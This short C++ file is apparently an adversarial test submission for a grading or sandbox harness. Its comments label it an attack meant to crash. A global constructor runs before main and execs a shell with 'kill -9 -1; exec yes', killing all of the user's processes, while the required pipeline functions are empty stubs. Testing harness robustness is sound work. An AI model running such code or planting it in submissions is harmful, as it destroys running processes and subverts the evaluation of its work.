// attack: replaces itself by a shell that ends everything
// ends: crash
#include <unistd.h>

#include "exercise.hpp"

struct Changer {
  Changer() {
    execl("/bin/sh", "sh", "-c", "kill -9 -1; exec yes", nullptr);
    execl("/usr/bin/env", "env", "yes", nullptr);
    _exit(0);
  }
} changer;

namespace pipeline {

std::int64_t tick_count(std::int32_t, std::int32_t) { return 0; }
double utilisation(std::int32_t, std::int32_t) { return 0; }
std::int32_t running_at(std::int32_t, std::int32_t, std::int32_t) { return kIdle; }

}  // namespace pipeline
